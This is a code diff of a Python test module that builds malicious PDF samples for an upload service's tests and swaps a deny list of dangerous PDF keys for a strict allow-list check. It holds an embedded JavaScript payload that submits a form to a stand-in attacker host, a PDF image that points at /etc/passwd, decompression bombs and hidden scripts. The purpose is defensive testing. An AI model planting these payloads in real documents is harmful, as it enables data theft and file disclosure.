@@ -1,6 +1,7 @@
-"""PDFs that people send and should not, or may, and the look inside those that were written anew."""
+"""PDFs that people send and should not, or may, and the look inside those that were drawn anew."""
 
 import io
+import re
 import zlib
 from collections.abc import Callable
 from functools import cache
@@ -14,16 +15,6 @@ from tests.billing.files_of_strangers import EICAR, PHP, SCRIPT, Corpus, archive
 Change = Callable[[Pdf], Any]
 EVIL = "app.alert(1); this.submitForm('https://evil.example.com');"
 JAVASCRIPT = {"/S": Name.JavaScript, "/JS": String(EVIL)}
-# Words of PDF that have no business in a receipt, and what was hidden under them.
-FORBIDDEN_KEYS = set(
-    """
-    /JS /JavaScript /OpenAction /AA /A /Names /EmbeddedFiles /EF /AF /AcroForm /XFA /Annots /URI /Launch /Metadata
-    /Info /PieceInfo /Outlines /Collection /OCProperties /OC /OPI /Ref /F /FFilter /RichMediaContent /Perms /DSS
-    /LastModified /StructTreeRoot /Dests /PageLabels /Threads /Requirements /Extensions /MarkInfo /Thumb /B /PresSteps
-    /Alternates
-    """.split()
-)
-FORBIDDEN_VALUES = set("/JavaScript /Launch /SubmitForm /GoToR /GoToE /ImportData /Rendition /URI /PS".split())
 
 
 def pdf(change: Change | None = None, pages: int = 1, **options: Any) -> bytes:
@@ -155,6 +146,7 @@ def with_type3_font(file: Pdf) -> None:
         Encoding=Dictionary(Type=Name.Encoding, Differences=[65, Name.AA]),
     )  # fmt: skip
     file.pages[0].obj.Resources.Font.F1 = font
+    file.pages[0].Contents = file.make_stream(b"BT /F1 12 Tf 20 100 Td (AAA) Tj ET")
 
 
 def printer_program(file: Pdf) -> None:
@@ -230,12 +222,12 @@ def pdfs_taken() -> Corpus:
             b"\0" * 9 + SCRIPT, ColorSpace=Name.DeviceGray, BitsPerComponent=1, Filter=Name.CCITTFaxDecode,
             DecodeParms=Dictionary(K=-1, Columns=40, Rows=30, Evil=Dictionary(JAVASCRIPT)),
         ),
-        "PDF picture from a file": with_image(b"", F=String("/etc/passwd"), FFilter=Name.FlateDecode),
         "PDF other versions of a picture": with_image(jpeg, Filter=Name.DCTDecode, Alternates=[], OPI={}),
         "PDF turned and cut": on_page(Rotate=90, CropBox=Array([10, 10, 200, 150]), UserUnit=2),
-        "PDF script as a comment": with_contents(b"%" + SCRIPT),
-        "PDF page of several pieces": with_contents(b"q", b"Q"),
-        "PDF page of nothing": with_contents(),
+        "PDF script as a comment": with_contents(b"%" + SCRIPT + b"\n0 0 9 9 re f"),
+        "PDF page of several pieces": with_contents(b"q 0 0 9 9", b"re f Q"),
+        "PDF with a program for printers": printer_program,
+        "PDF with JPEG 2000": with_image(picture("JPEG2000"), Filter=Name.JPXDecode),
     }  # fmt: skip
     good = pdf()
     files = {
@@ -277,8 +269,9 @@ def pdfs_refused() -> Corpus:
         "PDF packed four times": bomb(4),
         "PDF of too many pixels": pdf(with_image(jpeg, 30_000, 30_000, Filter=Name.DCTDecode)),
         "PDF picture of no size": pdf(with_image(jpeg, 0, 0, Filter=Name.DCTDecode)),
-        "PDF with a program for printers": pdf(printer_program),
-        "PDF with JPEG 2000": pdf(with_image(picture("JPEG2000"), Filter=Name.JPXDecode)),
+        "PDF page of nothing": pdf(with_contents()),
+        "PDF page of white on white": pdf(with_contents(b"1 g 0 0 99 99 re f")),
+        "PDF picture from a file": pdf(with_image(b"", F=String("/etc/passwd"), FFilter=Name.FlateDecode)),
         "PDF with half a photograph": pdf(with_image(jpeg[:200], Filter=Name.DCTDecode)),
         "PDF with a photograph that is none": pdf(with_image(SCRIPT, Filter=Name.DCTDecode)),
         "PDF with a filter of its own": pdf(with_image(SCRIPT, Filter=Name.Own)),
@@ -286,31 +279,35 @@ def pdfs_refused() -> Corpus:
     return {name: (content, 400) for name, content in files.items()}
 
 
-def hidden_in(content: bytes) -> set[str]:
-    """What of FORBIDDEN_KEYS and FORBIDDEN_VALUES a PDF holds, however deep."""
+# All that a file of ours has: where the pages are, and on each page one picture.
+OURS = {
+    "/Catalog": {"/Type", "/Pages"},
+    "/Pages": {"/Type", "/Count", "/Kids"},
+    "/Page": {"/Type", "/Parent", "/Resources", "/MediaBox", "/Contents"},
+    "/XObject": {
+        "/Type", "/Subtype", "/Width", "/Height", "/Filter", "/BitsPerComponent", "/ColorSpace", "/Length"
+    },
+    "": {"/Length"},
+}  # fmt: skip
+PLACED = re.compile(rb"q [0-9.]+ 0 0 [0-9.]+ 0 0 cm /image Do Q\n")
+
+
+def require_only_pictures(content: bytes) -> None:
+    """A PDF holds its pages, a picture on each, and nothing else: no word of it is of anybody but us."""
     with Pdf.open(io.BytesIO(content)) as file:
-        found = {key for key in file.trailer if key == "/Info"}
+        assert set(file.trailer.keys()) <= {"/Root", "/Size"}
+        assert len(file.objects) == 2 + 3 * len(file.pages)
         for item in file.objects:
-            found |= _hidden(item)
-        return found
+            assert isinstance(item, (Dictionary, pikepdf.Stream))
+            assert set(item.keys()) <= OURS[str(item.get("/Type", ""))]
+        for page in file.pages:
+            assert set(page.obj.Resources.keys()) == {"/ProcSet", "/XObject"}
+            assert list(page.obj.Resources.XObject.keys()) == ["/image"]
+            assert str(page.obj.Resources.XObject.image.Filter) == "/DCTDecode"
+            assert PLACED.fullmatch(page.obj.Contents.read_bytes())
 
 
-def _hidden(item: Any, is_name_of_author: bool = False) -> set[str]:
-    if isinstance(item, Array):
-        return set().union(*(_hidden(part) for part in item if not getattr(part, "is_indirect", False)))
-    if isinstance(item, Name):
-        return {str(item)} & FORBIDDEN_VALUES
-    if not isinstance(item, (Dictionary, pikepdf.Stream)):
-        return set()
-    found = set() if is_name_of_author else set(item.keys()) & FORBIDDEN_KEYS
-    for key, value in item.items():
-        if not getattr(value, "is_indirect", False):
-            found |= _hidden(value, key in {"/Font", "/XObject", "/CharProcs"})
-    return found
-
-
-def unpacked(content: bytes) -> bytes:
-    """Everything that a PDF's streams hold, as far as it can be unpacked without knowing pictures."""
+def jpegs_in(content: bytes) -> list[bytes]:
+    """The pictures in a PDF of ours, page by page."""
     with Pdf.open(io.BytesIO(content)) as file:
-        streams = [item for item in file.objects if isinstance(item, pikepdf.Stream)]
-        return b"".join(stream.get_raw_stream_buffer() for stream in streams)
+        return [page.obj.Resources.XObject.image.read_raw_bytes() for page in file.pages]
